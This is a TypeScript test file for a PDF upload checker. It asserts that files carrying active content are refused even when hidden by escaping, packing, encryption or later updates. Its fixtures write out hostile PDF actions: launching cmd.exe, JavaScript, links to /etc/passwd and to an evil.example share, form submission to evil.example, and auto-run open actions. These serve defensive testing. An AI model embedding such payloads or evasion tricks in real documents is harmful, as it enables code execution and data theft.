import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { promisify } from 'node:util';
import PDFDocument from 'pdfkit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { inspectFile } from '../stored-files/file-checks/inspect-file.ts';
import { packedPdf } from '../testing/hostile-files.ts';
import { pdf, pdfOf } from '../testing/sample-files.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pdf-corpus-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function verdictOf(bytes: Buffer): Promise<string> {
  const path = join(folder, crypto.randomUUID());
  await writeFile(path, bytes);
  const verdict = await inspectFile({ path, bytes }, 'statement.pdf');
  return verdict.isFit ? 'fit' : verdict.refusal;
}

/** The same document as another program writes it. */
async function rewritten(bytes: Buffer, ...options: string[]): Promise<Buffer> {
  const [from, to] = [join(folder, crypto.randomUUID()), join(folder, crypto.randomUUID())];
  await writeFile(from, bytes);
  await promisify(execFile)('qpdf', [...options, from, to]);
  return readFile(to);
}

/** A statement as a bank makes it: texts, a picture of its own fonts, links to its pages, an outline, a field to fill in. */
async function statement(more: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const document = new PDFDocument({ tagged: true, lang: 'en-US', info: { Title: 'October' }, ...more });
  document.text('Your bank', { link: 'https://www.bank.example/statements' });
  document.text('Write to us', { link: 'mailto:help@bank.example' });
  document.addPage().text('Page 2', { goTo: 'first' });
  document.addNamedDestination('first');
  document.outline.addItem('Transactions');
  document.initForm();
  document.formText('name', 10, 10, 100, 20, { value: 'x' });
  document.end();
  return buffer(document);
}

const action = (inside: string) => `<< /Type /Action ${inside} >>`;
const LAUNCH = action('/S /Launch /F (cmd.exe)');

/** What no statement has, each by itself. */
const ACTIVE: Readonly<Record<string, string>> = {
  'a program': LAUNCH,
  'a script': action('/S /JavaScript /JS (app.alert\\(1\\))'),
  'a link to a file': action('/S /URI /URI (file:///etc/passwd)'),
  'a link to a share': action('/S /URI /URI (\\\\\\\\evil.example\\\\s)'),
  'a link that is a script': action('/S /URI /URI (javascript:alert\\(1\\))'),
  'a link in hex': action('/S /URI /URI <66696c653a2f2f2f783e>'),
  'a form that is sent': action('/S /SubmitForm /F (https://evil.example)'),
  'a form that is filled from elsewhere': action('/S /ImportData /F (https://evil.example/a.fdf)'),
  'another document': action('/S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) /D [0 /Fit]'),
  'a document in the document': action('/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]'),
  'a thread of another document': action('/S /Thread /F (https://evil.example/a.pdf) /D 0'),
  'a film': action('/S /Rendition /OP 0'),
  'a program after a page': action(`/S /GoTo /D [0 /Fit] /Next ${LAUNCH}`),
  'an attachment': '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>',
  'a list of attachments': '<< /EmbeddedFiles << /Names [] >> >>',
  'a list of scripts': '<< /JavaScript << /Names [] >> >>',
  'a form with programs': '<< /Fields [] /XFA [(template) 4 0 R] >>',
  'rich media': '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>',
  'a picture in another file': '<< /Length 0 /F (https://evil.example/a.png) >>\nstream\n\nendstream',
};
/** What may be pressed, and may not happen by itself. */
const LINK = action('/S /URI /URI (https://evil.example/opened)');

const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
const ROOT = '<< /Type /Catalog /Pages 2 0 R /Names 3 0 R >>';
const escaped = (text: string) =>
  text.replaceAll(
    /\/([A-Z])([A-Za-z]+)/g,
    (_, first: string, rest: string) => `/#${first.charCodeAt(0).toString(16)}${rest}`,
  );

/** A second version of the first object behind the first document, which programs read instead of it. */
function updated(bytes: Buffer, number: number, object: string): Buffer {
  const before = bytes.toString('latin1');
  const table = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(before)?.[1]);
  const added = `${number} 0 obj\n${object}\nendobj\n`;
  const place = String(bytes.length).padStart(10, '0');
  return Buffer.from(
    `${before}${added}xref\n${number} 1\n${place} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${table} >>\nstartxref\n${bytes.length + added.length}\n%%EOF\n`,
    'latin1',
  );
}

describe('UPLOAD-05 PDFs are judged by what they hold after unpacking', () => {
  const isStream = (object: string) => object.includes('stream');
  const ways: Readonly<Record<string, (object: string) => Promise<Buffer> | Buffer | null>> = {
    'as it is': (object) => pdfOf([ROOT, PAGES, object]),
    'its names disguised': (object) => pdfOf([ROOT, PAGES, escaped(object)]),
    packed: (object) => (isStream(object) ? null : packedPdf([ROOT, PAGES, object])),
    'packed once more by another program': (object) =>
      rewritten(pdfOf([ROOT, PAGES, object]), '--object-streams=generate', '--preserve-unreferenced'),
    'locked without a password': (object) =>
      rewritten(pdfOf([ROOT, PAGES, object]), '--encrypt', '', 'owner', '256', '--'),
    'added afterwards': (object) => updated(pdfOf([ROOT, PAGES, '<< >>']), 3, object),
    'reached through others': (object) => pdfOf([ROOT, PAGES, '<< /A 4 0 R >>', object]),
  };
  test.each(Object.entries(ACTIVE))(
    'UPLOAD-05 security rule: a PDF with %s is refused in each way to hide it',
    async (_what, object) => {
      for (const [way, make] of Object.entries(ways)) {
        const bytes = await make(object);
        if (bytes) expect([way, await verdictOf(bytes)]).toEqual([way, 'has_active_content']);
      }
    },
  );

  test('UPLOAD-05 security rule: what a document does when it is opened is at most to turn to a page', async () => {
    for (const opened of [
      `/OpenAction ${LINK}`,
      '/OpenAction 3 0 R',
      `/AA << /WC ${LINK} >>`,
      '/AA << /O 3 0 R >>',
      `/OpenAction << /S 4 0 R /URI (https://evil.example) >>`,
    ])
      expect([opened, await verdictOf(pdf(opened, LINK, '/URI'))]).toEqual([opened, 'has_active_content']);
    for (const opened of ['/OpenAction [2 0 R /Fit]', '/OpenAction << /S /GoTo /D [2 0 R /Fit] >>'])
      expect([opened, await verdictOf(pdf(opened, LINK))]).toEqual([opened, 'fit']);
  });

  test('UPLOAD-05 security rule: a document with mistakes that programs guess about is refused, and so is a locked one', async () => {
    const plain = pdfOf([ROOT, PAGES, '<< >>']);
    const wrongTable = Buffer.from(
      plain.toString('latin1').replace(/startxref\n\d+/, 'startxref\n3'),
      'latin1',
    );
    expect(await verdictOf(wrongTable)).toBe('unreadable');
    expect(await verdictOf(pdfOf([ROOT, PAGES, '['.repeat(2_000) + LAUNCH + ']'.repeat(2_000)]))).toBe(
      'unreadable',
    );
    expect(await verdictOf(await rewritten(plain, '--encrypt', 'user', 'owner', '256', '--'))).toBe(
      'unreadable',
    );
  });

  test('UPLOAD-05 statements as banks make them stay fit, however they were written', async () => {
    const plain = await statement();
    const plainPdf = pdfOf([ROOT, PAGES, '<< >>']);
    for (const bytes of [
      plain,
      await statement({ compress: false, pdfVersion: '1.4' }),
      await statement({ ownerPassword: 'owner', permissions: { printing: 'highResolution' } }),
      await rewritten(plain, '--object-streams=generate'),
      await rewritten(plain, '--linearize'),
      await rewritten(plain, '--object-streams=disable', '--qdf'),
      await rewritten(plain, '--encrypt', '', 'owner', '256', '--'),
      await rewritten(plain, '--encrypt', '', 'owner', '128', '--use-aes=y', '--'),
      updated(plainPdf, 3, '<< >>'),
      Buffer.from(plainPdf.toString('latin1').replace('/Size 4', '/Size 9'), 'latin1'),
      pdf(`/OpenAction [2 0 R /XYZ null null 0]`, action('/S /URI /URI (www.bank.example/help)')),
    ])
      expect(await verdictOf(bytes)).toBe('fit');
  });
});
